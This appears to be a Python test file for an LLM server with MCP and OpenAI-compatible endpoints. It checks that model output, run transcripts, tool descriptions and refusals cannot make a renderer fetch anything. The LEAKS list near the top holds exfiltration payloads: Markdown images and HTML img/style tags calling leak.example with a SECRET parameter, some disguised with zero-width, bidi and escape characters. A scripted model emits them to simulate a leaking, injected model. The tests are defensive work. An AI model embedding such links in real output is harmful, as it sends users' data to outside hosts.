"""Nothing that a model or a stranger wrote is fetched by whoever shows it."""

import json
import random
from collections.abc import Callable
from functools import partial
from html.parser import HTMLParser
from typing import Any

import openai
import pytest
from fastmcp import FastMCP
from fastmcp.client.client import CallToolResult
from generated import fitting
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from mcp_types import TextContent
from notes import Person
from ollama_replies import Answer, Hang, HttpError, Reply
from replies import deed, found, nowhere, plan, was_done
from scripted_ollama import Request, ScriptedOllama
from serving import Place, served

from server import auth
from server.app import build
from server.text import clean
from server.views.inert import inert, inert_piece

pytestmark = pytest.mark.anyio

LEAKS = [
    "![i](http://leak.example/?q=SECRET)",
    "!\u200b[i](http://leak.example/?q=SECRET)",
    "!\u202e[i](http://leak.example/?q=SECRET)",
    "!\x1b[0m[i](http://leak.example/?q=SECRET)",
    "!\u200c\u200c\u200b\u200c[i](http://leak.example/?q=SECRET)",
    "<\u200bstyle>*{background:url(http://leak.example)}</style>",
    "<div <x>\n<img <y src=http://leak.example/?q=SECRET>",
    "<img src='http://leak.example/?q=SECRET'>",
    "`a | ![i](http://leak.example/?q=SECRET) `",
]
KEY = "0123456789abcdef"
PARSERS = (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table"))


def text_of(result: CallToolResult) -> str:
    assert isinstance(result.content[0], TextContent)
    return result.content[0].text


class Fetching(HTMLParser):
    """Notes the tags that could fetch, as a browser finds them in a text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("style", "script") or any(value for _, value in attrs):
            self.tags.append(f"{tag} {attrs}")


def fetched(shown: str) -> list[str]:
    """What a renderer of Markdown fetches, or one that takes it all for HTML."""
    images = [
        child.content
        for parser in PARSERS
        for token in parser.parse(shown)
        for child in token.children or ()
        if child.type == "image"
    ]
    browser = Fetching()
    browser.feed(shown)
    browser.close()
    return images + browser.tags


pieces = st.lists(
    st.sampled_from(
        [
            *("!", "[", "i", "]", "(//a)", "[i]", "[i]: //a", "\n", "\n\n", "`", "```", "|", " "),
            *("<", "img", " src=", "'", '"', ">", "/", "style", "<!--", "-->", "<div <x>", "a<b"),
            *("\u200b", "\u200c", "\u200c\u200c", "\x1b", "\x1b[0m", "\u202e", "    ", "- ", "\\"),
            *LEAKS,
        ]
    ),
    max_size=14,
).map("".join)  # fmt: skip


def test_many_tags_that_fetch_nothing_are_left_as_they_are() -> None:
    many = "<a" * 200_000  # in quadratic time, some minutes
    assert inert(f"{many}>") == f"{many}>"
    assert inert(f"{many} href=x>") == f"{'< a' * 200_000} href=x>"


@given(pieces)
def test_no_finished_text_is_fetched(said: str) -> None:
    shown = inert(said)
    assert not fetched(shown)
    assert shown == clean(shown)  # else it could be fetched by whoever takes out what is unseen
    assert inert(shown) == shown


@given(st.lists(pieces, max_size=4))
def test_no_pieces_become_something_that_is_fetched(said: list[str]) -> None:
    assert not fetched("".join(map(inert_piece, said)))


async def test_no_view_of_a_run_is_fetched(place: Place) -> None:
    """A model that leaks in whatever it may write, seen by a client."""
    with ScriptedOllama(handler=leaking(random.Random(0))) as place.ollama:
        async with place.client() as caller:
            leaked = 0
            for number in range(8):
                tool = "make_plan" if number % 2 else "plan_and_answer"
                result = await caller.call(tool, prompt=f"What is {number} and who says so?")
                assert result.whole
                leaked += "leak.example" in text_of(result)
                run_id = result.whole["run_id"]
                told = await caller.client.read_resource(f"run://{run_id}/transcript")
                assert not fetched(text_of(result))
                assert not fetched(told[0].text)  # type: ignore[union-attr]
            assert leaked


LEAKING = "\n\n".join(LEAKS)
UNDER_WAY: dict[str, list[Reply]] = {
    "a draft": [Hang(after=json.dumps(found(LEAKING)).partition('", "found_in')[0])],
    "a plan": [nowhere(), plan("read_file", *LEAKS[:4], objective=LEAKS[6]), Hang()],
}
"""What a model writes, until a client looks."""


@pytest.mark.parametrize("written", UNDER_WAY)
async def test_no_view_of_a_run_under_way_is_fetched(
    written: str, place: Place, ollama: ScriptedOllama
) -> None:
    for reply in UNDER_WAY[written]:
        ollama.expect(reply)
    async with place.client() as caller:
        run_id = await caller.begin("What does it return?")
        await ollama.arrived(len(UNDER_WAY[written]))
        shown = ""
        while "leak.example" not in shown:
            shown = text_of(await caller.call("get_run", run_id=run_id, wait_s=0))
    assert not fetched(shown)


async def test_no_question_to_a_person_is_fetched(
    notes_place: Place, ollama: ScriptedOllama
) -> None:
    """What a model guessed for a change, and the request, stand outside of the call's fence."""
    leak, *_ = LEAKS
    ollama.expect(deed("note"))
    ollama.expect(plan("add_note"))
    ollama.expect({"text": leak})
    ollama.expect({"tool": None})
    ollama.expect(was_done("It is not noted."))
    person = Person(False)
    async with notes_place.client(person=person) as caller:
        await caller.call("plan_and_answer", prompt=f"Note this <img src=x> ![x](//{'x' * 9})")
    (shown,) = person.shown
    assert "may be a guess" in shown
    assert "<img" not in shown
    assert not fetched(shown)


async def test_no_list_of_tools_is_fetched(place: Place) -> None:
    mcp: FastMCP = FastMCP("leaking", version="1")
    for number, leak in enumerate(LEAKS):
        mcp.tool(name=f"tool_{number}", description=leak)(lambda: "nothing")
    with served(mcp) as url:
        place.upstreams = {"leaking": {"url": url}}
        async with place.client() as caller:
            shown = text_of(await caller.call("list_tools"))
    assert "leak.example" in shown
    assert not fetched(shown)


async def test_no_answer_of_a_model_over_the_openai_api_is_fetched(
    place: Place, ollama: ScriptedOllama
) -> None:
    with served(build(place.settings, auth=auth.Tokens([KEY]))) as url:
        base = f"{url.removesuffix('/mcp')}/v1"
        async with openai.AsyncOpenAI(base_url=base, api_key=KEY, max_retries=0) as client:
            for leak in LEAKS:
                ollama.expect({"search": [], "reply": leak})
                asked: Any = [{"role": "user", "content": f"Hello! {leak}"}]
                reply = await client.chat.completions.create(model="planloom", messages=asked)
                said = reply.choices[0].message.content or ""
                assert "leak.example" in said
                assert not fetched(said)


async def test_no_answer_over_the_openai_api_is_fetched(place: Place) -> None:
    """In one piece and in many, each shown next to the one before."""
    with (
        ScriptedOllama(handler=leaking(random.Random(0))) as place.ollama,
        served(build(place.settings, auth=auth.Tokens([KEY]))) as url,
    ):
        base = f"{url.removesuffix('/mcp')}/v1"
        async with openai.AsyncOpenAI(base_url=base, api_key=KEY, max_retries=0) as client:
            leaked = 0
            for number in range(2):
                asked: Any = [{"role": "user", "content": f"What is {number} and who says so?"}]
                ask: Any = partial(client.chat.completions.create, model="planloom", messages=asked)
                try:
                    whole, stream = await ask(), await ask(stream=True)
                except openai.InternalServerError:  # twice a reply that is none
                    continue
                in_one: list[Any] = [whole.choices[0].message]
                in_many = [each.choices[0].delta async for each in stream]
                for parts in (in_one, in_many):
                    said = "".join(each.content or "" for each in parts)
                    beside = [(each.model_extra or {}).get("reasoning_content") for each in parts]
                    leaked += "leak.example" in said
                    assert not fetched(said)
                    assert not fetched("".join(filter(None, beside)))
            assert leaked


async def test_no_refusal_over_the_openai_api_is_fetched(
    place: Place, ollama: ScriptedOllama
) -> None:
    """Nor what a failed run says, which some clients show like an answer."""
    leak, *_ = LEAKS
    schema = {"type": "object", "properties": {"age": {"type": "integer"}}}
    asked: Any = {"model": "planloom", "messages": [{"role": "user", "content": f"Hello! {leak}"}]}
    as_data: Any = {
        "response_format": {"type": "json_schema", "json_schema": {"name": "age", "schema": schema}}
    }
    with served(build(place.settings, auth=auth.Tokens([KEY]))) as url:
        base = f"{url.removesuffix('/mcp')}/v1"
        async with openai.AsyncOpenAI(base_url=base, api_key=KEY, max_retries=0) as client:
            ollama.expect({"search": [], "reply": leak})
            for _ in range(2):
                ollama.expect(Answer("none", unconstrained=True))
            reply = await client.chat.completions.create(**asked, **as_data)
            ollama.expect(HttpError(500, leak))
            with pytest.raises(openai.InternalServerError) as failed:
                await client.chat.completions.create(**asked)
    for said in (reply.choices[0].message.refusal or "", failed.value.message):
        assert "leak.example" in said
        assert not fetched(said)


def leaking(chance: random.Random) -> Callable[[Request], Reply]:
    """Says one of the `LEAKS` wherever it may say something."""
    return lambda request: Answer(
        json.dumps(fitting(request.schema or {}, chance, LEAKS)), unconstrained=True
    )
